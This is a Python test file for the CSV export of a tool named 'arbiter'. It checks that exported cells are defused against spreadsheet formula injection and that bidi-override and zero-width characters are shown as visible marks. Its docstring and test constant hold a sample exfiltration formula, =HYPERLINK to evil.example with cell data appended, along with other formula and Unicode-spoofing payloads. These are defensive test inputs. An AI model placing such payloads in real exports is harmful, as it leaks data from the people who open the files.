"""Outside probe (tenth session): `arbiter export --format csv` and spreadsheet formulas.

A CSV cell that begins with `=`, `+`, `-`, `@` (or a tab or CR) is a formula to Excel, LibreOffice
and Google Sheets: `=HYPERLINK("http://evil/?"&A1,"open")` sends a row's data away on a click,
`=cmd|...` once ran programs. Text from outside reaches exported cells: a discovered model's id
is whatever an upstream's listing says (any printable text), and a tenant named before names
were checked keeps its name. Those cells were written as they came; each text cell that a
spreadsheet would read as a formula now starts with an apostrophe (OWASP's advice), which the
spreadsheet shows as text and drops. Numbers and the JSON columns are untouched.

Eleventh session: a bidi control in such text (U+202E RIGHT-TO-LEFT OVERRIDE...) reordered how
its cell reads, so a model id could pass for another; a text cell now shows each as a visible
mark (⟨U+202E⟩, as the dashboard does) and the JSON columns escape it (the same JSON value)."""

from __future__ import annotations

import csv
import io
import json
import time
from pathlib import Path

from arbiter.records import Attempt, Candidate, DecisionRecord
from arbiter.store import open_store
from arbiter.store.export import CSV_COLUMNS, export

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"open")'


def _decision(model: str, tenant: str, error: str | None, cost: float) -> DecisionRecord:
    return DecisionRecord(
        id="dec_1",
        ts=time.time(),
        tenant=tenant,
        task="chat",
        mode="passthrough",
        chosen_model=model,
        reason=f"pass-through: the client asked for {model}",
        candidates=(Candidate(model, 0.8, 0.8, cost),),
        attempts=(Attempt(model, error is None, 12.0, error),),
        status="ok" if error is None else "failed",
        cost_usd=cost,
        baseline_model="big",
        baseline_cost_usd=0.01,
        latency_ms=12.0,
        prompt_tokens=3,
        completion_tokens=2,
        stream=False,
        difficulty=None,
        key_id="k1",
        error=error,
        cost_source="upstream",
    )


def test_exported_csv_cells_are_never_formulas(tmp_path: Path) -> None:
    store = open_store(f"sqlite:///{tmp_path / 'arbiter.db'}")
    try:
        store.migrate()
        store.write([_decision(FORMULA, "-2+3", "@SUM(A1:A9)", -0.5)])
        out = io.StringIO()
        assert export(store, 0.0, "csv", out) == 1
    finally:
        store.close()
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert tuple(row) == CSV_COLUMNS
    assert row["chosen_model"] == "'" + FORMULA
    assert row["tenant"] == "'-2+3"
    assert row["error"] == "'@SUM(A1:A9)"
    assert row["cost_usd"] == "-0.5"  # a number stays a number
    assert row["reason"] == f"pass-through: the client asked for {FORMULA}"  # not at the start
    assert row["candidates"].startswith("[")  # JSON text, the model's id inside as it is
    for column, cell in row.items():
        assert cell[:1] not in ("=", "+", "@", "\t", "\r"), (column, cell)
        assert not (cell.startswith("-") and column not in ("cost_usd", "billed_usd")), (
            column,
            cell,
        )


def test_exported_csv_cells_show_bidi_controls_instead_of_applying_them(tmp_path: Path) -> None:
    spoof = "gpt-4o\u202eini-m\u202c"  # reads "gpt-4om-ini" with the override applied
    text = _exported_csv(
        tmp_path, _decision(spoof, "t\u2067x\u2069", "\u202e=1+1\u200f\u061c", 0.001)
    )
    for control in "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069":
        assert control not in text
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["chosen_model"] == "gpt-4o⟨U+202E⟩ini-m⟨U+202C⟩"
    assert row["tenant"] == "t⟨U+2067⟩x⟨U+2069⟩"
    assert row["error"] == "⟨U+202E⟩=1+1⟨U+200F⟩⟨U+061C⟩"  # shown as text: no formula
    assert json.loads(row["candidates"])[0]["model"] == spoof  # escaped JSON: the same value


def test_exported_csv_cells_show_zero_width_characters(tmp_path: Path) -> None:
    """Twelfth follow-up: a zero-width character (U+200B-200D, U+2060, U+FEFF) shows nothing,
    so "gpt-4o" + U+200B passed for "gpt-4o" in a spreadsheet; each is now marked too."""
    spoof = "gpt-4o\u200b"
    text = _exported_csv(tmp_path, _decision(spoof, "\ufeffacme\u2060", "x\u200cy\u200d", 0.001))
    for hidden in "\u200b\u200c\u200d\u2060\ufeff":
        assert hidden not in text
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["chosen_model"] == "gpt-4o⟨U+200B⟩"
    assert row["tenant"] == "⟨U+FEFF⟩acme⟨U+2060⟩"
    assert row["error"] == "x⟨U+200C⟩y⟨U+200D⟩"
    assert json.loads(row["candidates"])[0]["model"] == spoof  # escaped JSON: the same value


def _exported_csv(tmp_path: Path, decision: DecisionRecord) -> str:
    """One decision written to a fresh SQLite store and exported as CSV."""
    store = open_store(f"sqlite:///{tmp_path / 'arbiter.db'}")
    try:
        store.migrate()
        store.write([decision])
        out = io.StringIO()
        assert export(store, 0.0, "csv", out) == 1
    finally:
        store.close()
    return out.getvalue()
